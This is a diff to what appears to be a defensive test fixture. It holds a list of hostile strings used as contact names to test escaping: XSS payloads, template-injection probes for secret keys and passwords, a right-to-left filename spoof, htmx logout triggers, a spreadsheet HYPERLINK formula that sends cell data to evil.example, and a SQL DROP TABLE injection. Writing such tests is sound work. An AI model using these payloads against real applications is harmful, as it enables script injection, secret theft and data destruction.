@@ -26,40 +26,39 @@ PWNED = "window.__pwned=1"
 RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "‮evil.exe" reads as "exe.live" with it applied
 
 HOSTILE: list[str] = [
-    # Markup and script injection.
+    # The first eight become contact names (see `plant`): markup, script, template code and a
+    # right-to-left override among them.
     f"<script>{PWNED}</script>",
     f'"><img src=x onerror="{PWNED}">',
     f"javascript:{PWNED}",
-    # Template injection: Django, Jinja, JavaScript template literals.
-    "{{ 7*7 }}",
+    "{{ 7*7 }}",  # Django / Jinja
     "{% debug %}",
     "{{ settings.SECRET_KEY }}",
-    # Text direction spoofing.
     f"{RLO}evil.exe",
     f"<svg onload={PWNED}>",
+    # Breaking out of attributes, textareas, titles and scripts.
     f"</textarea><script>{PWNED}</script>",
     f"' onmouseover='{PWNED}",
     f'<a href="javascript:{PWNED}">x</a>',
     f'<iframe src="javascript:{PWNED}">',
     "<style>body{display:none}</style>",
-    "${7*7}",
-    # More of the same families.
-    "<img src=x onerror=alert(1)>",
+    "${7*7}",  # JavaScript template literals
+    "<img src=x onerror=alert(1)>",  # a dialog, if it ever ran
     f"</title><script>{PWNED}</script>",
     f"</script><script>{PWNED}</script>",
     f"<details open ontoggle={PWNED}>",
     f"<body onload={PWNED}>",
-    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWNED}">',
+    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWNED}">',  # mutation XSS
     f'<meta http-equiv="refresh" content="0;url=javascript:{PWNED}">',
     f'<form action="javascript:{PWNED}"><button>go</button></form>',
-    # htmx attributes: would be live if rendered as markup in an htmx page.
+    # htmx attributes: they would be live if rendered as markup in an htmx page.
     '<div hx-get="/accounts/logout/" hx-trigger="load">htmx</div>',
     f'<div hx-on:htmx:load="{PWNED}">htmx-on</div>',
     # Already-escaped text must stay as written, not be unescaped once more.
     f"&lt;script&gt;{PWNED}&lt;/script&gt;",
     "{% templatetag openvariable %} {{ request.user.password }}",
-    "[[7*7]] {{constructor.constructor('window.__pwned=1')()}}",
-    # Spreadsheet formulas (CSV export) and format strings.
+    "[[7*7]] {{constructor.constructor('window.__pwned=1')()}}",  # client-side template engines
+    # Spreadsheet formulas (the CSV export), format strings, SQL and paths.
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1-2 @SUM(A1:A9) %s %(password)s {0} {name}",
     "Robert'); DROP TABLE conversations;--",
